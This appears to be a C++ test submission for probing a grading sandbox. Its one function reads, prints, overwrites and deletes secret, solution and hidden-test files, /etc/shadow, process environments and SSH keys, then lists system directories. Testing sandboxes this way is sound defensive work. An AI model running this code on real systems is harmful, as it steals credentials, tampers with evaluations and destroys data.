// Tries: reads other submissions, the home folder, solutions, the grading's folder, /etc and /proc, and prints what it gets.
// Ends as: comparison
// Flags: files
#include <dirent.h>

#include <cstdio>
#include <fstream>
#include <iterator>
#include <string>

static void attack_now() {
  static bool done = false;
  if (done) return;
  done = true;
  for (const char* file :
       {ATTACK_SECRETS, ATTACK_SOLUTION, ATTACK_HIDDEN_TEST, "/etc/passwd", "/etc/shadow", "/proc/1/environ",
        "/proc/self/environ", "/proc/self/maps", "/root/.ssh/id_rsa", "/proc/1/root/etc/passwd"}) {
    std::ifstream stream(file, std::ios::binary);
    const std::string text((std::istreambuf_iterator<char>(stream)), {});
    if (!text.empty()) std::printf("READ %s: %.2000s\n", file, text.c_str());
    std::ofstream(file, std::ios::app) << "overwritten";
    std::remove(file);
  }
  for (const char* folder : {"/", "/home", "/root", "/tmp", ".", "..", ATTACK_DROP}) {
    DIR* entries = opendir(folder);
    if (entries == nullptr) continue;
    while (const dirent* entry = readdir(entries)) std::printf("%s/%s\n", folder, entry->d_name);
    closedir(entries);
  }
}
